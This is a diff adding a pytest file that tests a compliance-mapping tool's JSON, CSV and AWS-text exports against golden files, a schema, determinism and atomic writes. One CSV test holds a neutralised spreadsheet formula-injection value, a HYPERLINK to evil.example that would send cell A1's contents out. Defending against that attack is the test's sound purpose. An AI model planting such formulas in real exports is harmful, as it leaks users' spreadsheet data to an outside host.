@@ -1,0 +1,91 @@
+"""Exports against golden files (tests/expected/, reviewed by hand), their schema, and determinism."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+import conformap
+from conformap import exports, paths
+from conformap.cli import main
+
+EXPECTED = Path(__file__).resolve().parent / "expected"
+
+
+@pytest.fixture(scope="module")
+def golden(fixtures_dir):
+    return conformap.load(fixtures_dir / "golden")
+
+
+@pytest.fixture(scope="module")
+def export_schema():
+    schema = json.loads((paths.SCHEMA_DIR / "export.schema.json").read_text(encoding="utf-8"))
+    jsonschema.Draft202012Validator.check_schema(schema)
+    return schema
+
+
+def test_json_matches_golden_file(golden):
+    assert exports.render(golden, "json") == (EXPECTED / "golden.json").read_bytes()
+
+
+def test_csv_matches_golden_file(golden):
+    assert exports.render(golden, "csv") == (EXPECTED / "golden.csv").read_bytes()
+
+
+def test_csv_is_rfc4180_with_neutralised_formulas(golden):
+    raw = exports.render(golden, "csv")
+    assert raw.count(b"\r\n") == 5 and b"\n" not in raw.replace(b"\r\n", b"")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
+    guidance = {r["rule"]: r["guidance"] for r in rows}
+    assert guidance["beta-check"] == "'=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click\")"
+    assert guidance["gamma-check"] == "'+1 -2 @three"
+    assert guidance["alpha-check"] == "Buckets\u2019 data, \"quoted\", and commas."
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), ("’quote", "’quote"),
+])
+def test_csv_safe(value, expected):
+    assert exports.csv_safe(value) == expected
+
+
+def test_json_validates_against_published_schema(golden, real_catalog, export_schema):
+    for cat in (golden, real_catalog):
+        jsonschema.validate(json.loads(exports.render(cat, "json")), export_schema, cls=jsonschema.Draft202012Validator)
+
+
+def test_exports_agree_with_each_other_and_the_catalogue(real_catalog):
+    data = json.loads(exports.render(real_catalog, "json"))
+    rows = list(csv.DictReader(io.StringIO(exports.render(real_catalog, "csv").decode("utf-8"), newline="")))
+    assert data["counts"]["mappings"] == len(data["mappings"]) == len(rows) == 181
+    assert [(m["rule"], m["control"], m["statement"]) for m in data["mappings"]] == [(r["rule"], r["control_id"], r["statement_id"]) for r in rows]
+    assert {r["id"] for r in data["rules"]} == {r.id for r in real_catalog.rules}
+
+
+def test_exports_are_deterministic(fixtures_dir, real_catalog):
+    for fmt in exports.FORMATS:
+        again = conformap.load(paths.DEFAULT_CATALOG)
+        assert exports.render(real_catalog, fmt) == exports.render(again, fmt)
+
+
+def test_aws_text_uses_printed_statement(golden):
+    text = exports.render(golden, "aws-text").decode("utf-8")
+    assert "G-2 How do you do the first thing? The first thing\u2019s description.\n\nbeta-check\n" in text
+
+
+def test_export_to_file_is_atomic(tmp_path, fixtures_dir, capsys):
+    out = tmp_path / "mappings.json"
+    assert main(["export", "--format", "json", "--catalog", str(fixtures_dir / "golden"), "--out", str(out)]) == 0
+    before = out.read_bytes()
+    broken = tmp_path / "broken"
+    broken.mkdir()  # an empty folder: no framework.yaml, no controls/, no rules/
+    assert main(["export", "--format", "json", "--catalog", str(broken), "--out", str(out)]) == 1
+    assert out.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken", "mappings.json"]  # no temp file left behind
+    assert "nothing was written" in capsys.readouterr().err
